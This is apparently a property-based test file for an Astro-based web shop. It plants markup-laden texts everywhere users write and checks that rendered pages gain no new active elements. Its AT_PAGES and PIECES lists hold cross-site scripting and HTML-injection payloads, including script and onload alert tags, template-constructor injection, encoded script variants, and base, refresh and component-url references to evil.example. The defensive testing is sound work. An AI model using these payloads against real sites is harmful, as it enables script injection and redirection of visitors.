import fc from 'fast-check';
import { createHash } from 'node:crypto';
import type { Engine } from '#lib/platform/db/database.server.ts';
import { Client } from '#tests/support/client.ts';
import { HOSTILE } from '#tests/support/hostile-markdown.ts';
import { sessionCookies } from '#tests/support/login.ts';
import { actingParts, makePlanted, type Planted } from '../kit/planted.ts';
import type { Ground } from '../kit/ground.ts';
import { ENGINES, type Finding, type Part } from '../kit/part.ts';
import { type FaultShop, openShop } from '../kit/shop.ts';

/** Input aimed at the way pages are put together, in addition to input aimed at browsers. */
const AT_PAGES: readonly string[] = [
  '<script>customElements.get("astro-island")</script>',
  '<style>astro-island{display:none}</style>',
  '<script>self.Astro=1</script>',
  '"><script>customElements.get("astro-island")</script><meta http-equiv=refresh content=0;url=//evil.example>',
  '\'"></script></style></title></textarea></head><base href=//evil.example>',
  '</astro-island><astro-island component-url=//evil.example/x.js client=load>',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '</head><body onload=alert(1)>',
  '<!--notice--><!--',
  '--><script>alert(1)</script>',
  "$&$`$'$1<script>",
  '{{constructor.constructor("alert(1)")()}}',
  '\u2028</script\u2029><script>',
  '<ſcript>alert(1)</ſcript>',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  'javascript:alert(1)',
];
const PIECES = [
  '<',
  '>',
  '"',
  "'",
  '&',
  '=',
  '/',
  '<script>',
  '</script>',
  '<style>',
  '</head>',
  '<!--',
  '-->',
  '\n',
  '药',
  'astro-island',
  ' onload=',
  '`',
  '\\',
  'href=//evil.example',
];
const PLAIN = '平常的文字';

/** Texts full of markup, wherever people write: what acts in each finished page is the same as with a plain text. */
export const markupPart: Part = {
  name: 'markup',
  what: 'names, queries and articles full of markup',
  async run(ground) {
    const findings: Finding[] = [];
    for (const engine of ground.isQuick ? ENGINES.slice(0, 1) : ENGINES) {
      findings.push(await plantAll(ground, engine));
    }
    return findings;
  },
};

function textsFor(isQuick: boolean): string[] {
  const mixed = fc.sample(
    fc.array(fc.constantFrom(...PIECES), { minLength: 3, maxLength: 14 }).map((pieces) => pieces.join('')),
    { numRuns: isQuick ? 1 : 40, seed: 7 },
  );
  if (isQuick) return [AT_PAGES.slice(0, 8).join(''), ...mixed];
  return [...AT_PAGES, ...HOSTILE, ...mixed];
}

async function plantAll(ground: Ground, engine: Engine): Promise<Finding> {
  const shop = await openShop(ground, engine);
  const wrong: string[] = [];
  let looked = 0;
  try {
    const planted = await makePlanted(shop);
    const calm = await partsOfAll(shop, planted, PLAIN);
    for (const raw of textsFor(ground.isQuick)) {
      const text = engine === 'postgres' ? raw.replaceAll('\u0000', '') : raw;
      const found = await partsOfAll(shop, planted, text);
      for (const [index, page] of found.entries()) {
        looked += 1;
        const difference = differenceOf(calm[index]!, page);
        if (difference) wrong.push(`${page.path.slice(0, 120)}: ${difference}`);
      }
    }
    planted.buyer.close();
  } finally {
    await shop.close();
  }
  const what = 'texts full of markup, in parsed pages';
  return { what, engine, processes: 1, times: looked, wrong };
}

interface Page {
  path: string;
  status: number;
  parts: string[];
}

/** Puts a text everywhere and reads every page that can show it. */
async function partsOfAll(shop: FaultShop, planted: Planted, text: string): Promise<Page[]> {
  const { url } = shop.servers[0]!;
  // The mark shows when the server knows of it, and stays out of what is compared.
  const mark = `标${createHash('sha256').update(text).digest('hex').slice(0, 8)}`;
  await planted.plant(`${mark}${text}`);
  const visitor = new Client(url);
  const member = planted.buyer.at(url);
  const staff = new Client(url, await sessionCookies(shop.db, 'admin'));
  const told = new Client(url, { flash: planted.flash(text) });
  const [home = '', ...rest] = planted.publicPages(text);
  await heard(visitor, planted, mark);
  const pages: Page[] = [];
  const read = async (client: Client, path: string): Promise<void> => {
    pages.push(await look(client, path));
  };
  for (const path of [home, ...rest]) await read(visitor, path);
  for (const path of planted.memberPages) await read(member, path);
  for (const path of planted.staffPages(text)) await read(staff, path);
  await read(told, home);
  for (const client of [visitor, staff, told]) client.close();
  return pages.map((page) => (planted.linking.has(page.path) ? withoutLinks(page) : page));
}

const withoutLinks = (page: Page): Page => ({
  ...page,
  parts: page.parts.filter((part) => !/^a href (?!\w+:)/.test(part)),
});

async function heard(visitor: Client, { goodsPage }: Planted, mark: string): Promise<void> {
  const until = performance.now() + 5000;
  while (!(await visitor.get(goodsPage)).text.includes(mark)) {
    if (performance.now() > until) throw new Error('a text that was written does not show');
    await new Promise((go) => setTimeout(go, 20));
  }
}

/** A page as a browser reads it; what is no answer of HTTP at all counts as none. */
async function look(client: Client, path: string): Promise<Page> {
  try {
    const { status, text } = await client.get(path);
    return { path, status, parts: actingParts(text) };
  } catch (error) {
    return { path, status: 0, parts: [String(error)] };
  }
}

function differenceOf(calm: Page, page: Page): string | null {
  if (calm.status !== page.status) {
    return `answers ${page.status || page.parts.join()}, with a plain text ${calm.status}`;
  }
  const known = new Set(calm.parts);
  const foreign = page.parts.find((part) => !known.has(part));
  if (foreign !== undefined) return `holds ${foreign.slice(0, 160)}`;
  if (calm.parts.length !== page.parts.length)
    return `${page.parts.length} acting elements, not ${calm.parts.length}`;
  const moved = calm.parts.findIndex((part, index) => part !== page.parts[index]);
  return moved < 0 ? null : `holds ${page.parts[moved]!.slice(0, 160)} in another place`;
}
